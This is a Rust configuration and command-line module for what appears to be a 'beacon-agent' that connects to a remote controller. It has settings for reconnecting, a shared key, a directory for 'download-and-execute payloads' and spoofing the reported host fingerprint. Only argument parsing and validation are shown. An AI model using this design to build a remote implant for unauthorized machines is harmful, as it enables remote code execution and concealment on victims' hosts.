use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use anyhow::bail;
use beacon_wire::{transform_for, FrameTransform};
use clap::Parser;

#[derive(Debug, Parser)]
#[command(
    name = "beacon-agent",
    author,
    version,
    about = "Connects to a beacon controller and serves its requests"
)]
pub struct Cli {
    /// Controller address (host:port).
    #[arg(long, env = "BEACON_CONTROLLER_ADDR", default_value = "127.0.0.1:4422")]
    pub controller: String,

    /// Pause between reconnect attempts.
    #[arg(long, env = "BEACON_RECONNECT_DELAY_SECS", default_value_t = 5)]
    pub reconnect_delay_secs: u64,

    #[arg(long, env = "BEACON_CONNECT_TIMEOUT_SECS", default_value_t = 5)]
    pub connect_timeout_secs: u64,

    /// Drop the connection when no request arrives for this long.
    #[arg(long, env = "BEACON_IDLE_TIMEOUT_SECS", default_value_t = 60)]
    pub idle_timeout_secs: u64,

    /// Shared passphrase; must match the controller's.
    #[arg(long, env = "BEACON_SHARED_KEY", hide_env_values = true)]
    pub shared_key: Option<String>,

    /// Directory that download-and-execute payloads are written to.
    #[arg(long, env = "BEACON_DOWNLOAD_DIR")]
    pub download_dir: Option<PathBuf>,

    /// Report this fingerprint instead of the host's machine id.
    #[arg(long, env = "BEACON_FINGERPRINT")]
    pub fingerprint: Option<String>,
}

#[derive(Debug, Clone)]
pub struct AgentConfig {
    pub controller_addr: String,
    pub reconnect_delay: Duration,
    pub connect_timeout: Duration,
    pub idle_timeout: Duration,
    pub transform: Arc<dyn FrameTransform>,
    pub download_dir: PathBuf,
    pub fingerprint: Option<String>,
}

impl AgentConfig {
    pub fn new(controller_addr: impl Into<String>) -> Self {
        Self {
            controller_addr: controller_addr.into(),
            reconnect_delay: Duration::from_secs(5),
            connect_timeout: Duration::from_secs(5),
            idle_timeout: Duration::from_secs(60),
            transform: transform_for(None),
            download_dir: std::env::temp_dir(),
            fingerprint: None,
        }
    }
}

impl TryFrom<Cli> for AgentConfig {
    type Error = anyhow::Error;

    fn try_from(cli: Cli) -> Result<Self, Self::Error> {
        if cli.controller.trim().is_empty() {
            bail!("--controller must not be empty");
        }
        if cli.connect_timeout_secs == 0 || cli.idle_timeout_secs == 0 {
            bail!("timeouts must be greater than zero");
        }
        Ok(AgentConfig {
            controller_addr: cli.controller,
            reconnect_delay: Duration::from_secs(cli.reconnect_delay_secs),
            connect_timeout: Duration::from_secs(cli.connect_timeout_secs),
            idle_timeout: Duration::from_secs(cli.idle_timeout_secs),
            transform: transform_for(cli.shared_key.as_deref()),
            download_dir: cli.download_dir.unwrap_or_else(std::env::temp_dir),
            fingerprint: cli.fingerprint,
        })
    }
}
